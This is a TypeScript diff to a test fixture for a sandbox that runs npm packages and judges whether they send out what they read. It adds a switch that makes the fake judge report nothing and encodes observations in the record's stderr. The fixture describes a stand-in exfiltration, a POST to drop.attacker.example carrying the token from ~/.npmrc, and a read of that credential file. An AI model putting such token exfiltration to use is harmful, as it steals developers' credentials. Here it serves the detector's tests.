@@ -31,6 +31,8 @@ export interface FakeRunner extends SandboxParts {
   stop(): void
   go(): void
   versionOf: { runner: string; judge: string }
+  /** The judge finds nothing in any record, whatever stands in it. */
+  forgives: boolean
 }
 
 export function fakeRunner(settings: Partial<SandboxParts['settings']> = {}): FakeRunner {
@@ -50,14 +52,14 @@ export function fakeRunner(settings: Partial<SandboxParts['settings']> = {}): Fa
   }
   const judge: RecordJudge = {
     get version() { return fake.versionOf.judge },
-    judge: ({ ref }) => {
-      const { does } = fake.sees.get(ref.name) ?? {}
+    judge: (record) => {
+      const { does } = fake.forgives ? {} : sightIn(record)
       return [{ detector: 'sends-what-it-read', version: 1, status: 'ok', findings: does ? [findingOf(does)] : [] }]
     },
-    indicators: ({ ref }) => (fake.sees.get(ref.name)?.reaches ?? []).map((value): FoundIndicator => ({ type: 'domain', value, file: 'setup.js', line: 1 })),
+    indicators: (record) => (sightIn(record).reaches ?? []).map((value): FoundIndicator => ({ type: 'domain', value, file: 'setup.js', line: 1 })),
   }
   const fake: FakeRunner = {
-    begun: [], options: [], sees: new Map(), works: true, versionOf: { runner: 'fake@1', judge: 'judge@1' },
+    begun: [], options: [], sees: new Map(), works: true, versionOf: { runner: 'fake@1', judge: 'judge@1' }, forgives: false,
     settings: { mode: 'auto', backend: null, budget: { anHour: 100, atOnce: 2 }, passes: ['laptop'], time: 5_000, ...settings },
     runs: together(runner, judge),
     stop() {
@@ -77,12 +79,15 @@ const findingOf = (severity: Finding['severity']): Finding => ({
   evidence: [{ file: 'setup.js', lines: [1, 1], excerpt: 'POST https://drop.attacker.example/', says: 'the token of ~/.npmrc was in the body', role: 'sink' }],
 })
 
-export function recordOf({ ref, digest }: Pick<RunTarget, 'ref' | 'digest'>, { missing = [] }: Sight = {}): SandboxRecord {
+/** What the record of a fake run says was seen. */
+const sightIn = ({ phases }: SandboxRecord): Sight => JSON.parse(new TextDecoder().decode(phases[0]?.stderr)) as Sight
+
+export function recordOf({ ref, digest }: Pick<RunTarget, 'ref' | 'digest'>, { missing = [], does, reaches }: Sight = {}): SandboxRecord {
   const bytes = new TextEncoder().encode('done\n')
   return {
     ref, digest, backend: 'fake', startedAt: new Date('2026-06-10T12:00:00Z'), elapsedMs: 1_200, passes: ['laptop'], missing,
     phases: [{
-      pass: 'laptop', phase: 'install', status: 'completed', says: null, exit: 0, elapsedMs: 900, stdout: bytes, stderr: new Uint8Array(),
+      pass: 'laptop', phase: 'install', status: 'completed', says: null, exit: 0, elapsedMs: 900, stdout: bytes, stderr: new TextEncoder().encode(JSON.stringify({ does, reaches })),
       processes: [{ pid: 2, parent: null, argv: ['node', 'setup.js'], program: '/usr/bin/node', cwd: '/work', started: 1, ended: 900, exit: 0, signal: null }],
       acts: [
         { kind: 'read', at: 10, pid: 2, target: '/home/dev/.npmrc', done: true, seen: ['call', 'hook'], by: { package: ref.name, file: 'setup.js', line: 1, column: 4 } },
